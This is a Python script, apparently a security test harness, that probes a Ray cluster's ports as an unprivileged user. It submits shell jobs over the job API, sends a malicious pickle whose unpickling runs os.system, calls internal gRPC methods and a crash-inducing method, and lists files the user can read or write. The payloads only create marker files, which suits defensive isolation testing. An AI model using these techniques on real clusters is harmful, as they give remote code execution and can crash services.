"""Attack a server's ports and files as the user `nobody`; print the results.

The argument is JSON: `address`, `ports`, `token` or null, `certificate` and its key as
PEM or null, `marks`, `files`. Code that an attack manages to run creates a file in the
directory `marks`; `files` are directories to search for accessible files. Prints JSON:
a list of results, each with `attack`, `port` and `answer`.

With `catch`, a number of seconds, it listens at the first port in place of a server
instead, and prints what its clients send: a list of hexadecimal strings.
"""

import http.client
import json
import os
import pickle
import socket
import sys
import time
from collections.abc import Iterator, Sequence
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import grpc
from ray.core.generated import gcs_service_pb2
from ray.serve.generated import serve_pb2

NOBODY = 65534
# Long enough for a busy machine; closed ports respond at once.
TIMEOUT_SECONDS = 10

# A method without arguments of each of Ray's servers.
METHODS = (
    "ray.rpc.CoreWorkerService/GetCoreWorkerStats",
    "ray.rpc.NodeManagerService/GetNodeStats",
    "ray.rpc.NodeInfoGcsService/GetAllNodeInfo",
    "ray.rpc.ReporterService/GetTraceback",
)
# Without a certain header Ray aborts on this call, before it checks the token.
ABORT = "ray.rpc.syncer.RaySyncer/StartSync"
# The first frame of an HTTP/2 server: empty SETTINGS. Clients wait for it.
SETTINGS = bytes.fromhex("000000040000000000")


class Touch:
    """Creates a file when it is unpickled."""

    def __init__(self, path: Path) -> None:
        self._path = path

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (f"touch {self._path}",)


def attacks(
    address: str,
    port: int,
    token: str | None,
    certificate: Sequence[str] | None,
    marks: Path,
) -> Iterator[tuple[str, str]]:
    """Try to run code or read data through a port; yield attacks and their results."""
    bearer = {"authorization": f"Bearer {token}"} if token else {}

    def post(path: str, body: bytes) -> str:
        try:
            connection = http.client.HTTPConnection(address, port, TIMEOUT_SECONDS)
            headers = {"Content-Type": "application/json", **bearer}
            connection.request("POST", path, body, headers)
            return str(connection.getresponse().status)
        except (OSError, http.client.HTTPException) as error:
            return type(error).__name__

    def call(method: str, request: bytes) -> str:
        with channel_to(f"{address}:{port}", certificate) as channel:
            function = channel.unary_unary(f"/{method}")
            try:
                function(
                    request, timeout=TIMEOUT_SECONDS, metadata=tuple(bearer.items())
                )
            except grpc.RpcError as error:
                return str(error.code().name)
            return "OK"

    job = json.dumps({"entrypoint": f"touch {marks / f'job-{port}'}"}).encode()
    yield "job", post("/api/job_agent/jobs/", job)
    yield "runtime_env", post("/get_or_create_runtime_env", b"")
    touch = pickle.dumps(Touch(marks / f"pickle-{port}"))
    asgi = serve_pb2.ASGIRequest(pickled_request_metadata=touch)
    yield (
        "pickle",
        call("ray.serve.ASGIService/HandleRequest", asgi.SerializeToString()),
    )
    keys = gcs_service_pb2.InternalKVKeysRequest(namespace=b"fun")
    message = keys.SerializeToString()
    yield "functions", call("ray.rpc.InternalKVGcsService/InternalKVKeys", message)
    for method in METHODS:
        yield method, call(method, b"")
    # With the certificate this call would end the process under attack.
    if certificate is None:
        yield ABORT, call(ABORT, b"")


def channel_to(target: str, certificate: Sequence[str] | None) -> grpc.Channel:
    """Return a channel, with TLS if there are a certificate and its key."""
    if certificate is None:
        return grpc.insecure_channel(target)
    chain, key = (pem.encode() for pem in certificate)
    credentials = grpc.ssl_channel_credentials(chain, key, chain)
    return grpc.secure_channel(target, credentials)


def caught(port: int, seconds: float) -> list[str]:
    """Listen in place of a server; return what each of its clients sends, as hex."""
    end = time.monotonic() + seconds

    def read(connection: socket.socket) -> str:
        data = b""
        with connection:
            connection.settimeout(0.2)
            connection.sendall(SETTINGS)
            while time.monotonic() < end:
                try:
                    more = connection.recv(65536)
                except TimeoutError:
                    continue
                except OSError:
                    break
                if not more:
                    break
                data += more
        return data.hex()

    with ThreadPoolExecutor(64) as pool, freed(port, end) as listener:
        clients = []
        while time.monotonic() < end:
            try:
                clients.append(pool.submit(read, listener.accept()[0]))
            except TimeoutError:
                continue
        return [client.result() for client in clients]


def freed(port: int, end: float) -> socket.socket:
    """Return a socket that listens at the port, once that is free."""
    while True:
        try:
            listener = socket.create_server(("127.0.0.1", port), backlog=128)
        except OSError:
            if time.monotonic() > end:
                raise
            time.sleep(0.01)
        else:
            listener.settimeout(0.2)
            return listener


def open_files(directory: Path) -> Iterator[tuple[str, str]]:
    """Yield the files below a directory that this user can read or write."""
    for path in (directory, *directory.rglob("*")):
        if not path.is_symlink() and os.access(path, os.R_OK | os.W_OK):
            yield "file", str(path)


def main() -> None:
    """Attack all ports in parallel and search the directories, or replace a server."""
    what = json.loads(sys.argv[1])
    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)
    if what["catch"]:
        print(json.dumps(caught(what["ports"][0], what["catch"])))
        return

    def attack(port: int) -> list[dict[str, Any]]:
        found = attacks(
            *(what["address"], port, what["token"], what["certificate"]),
            Path(what["marks"]),
        )
        return [{"port": port, "attack": name, "answer": said} for name, said in found]

    with ThreadPoolExecutor(max(1, len(what["ports"]))) as pool:
        answers = [each for found in pool.map(attack, what["ports"]) for each in found]
    for directory in what["files"]:
        answers += [
            {"port": 0, "attack": name, "answer": said}
            for name, said in open_files(Path(directory))
        ]
    print(json.dumps(answers))


if __name__ == "__main__":
    main()
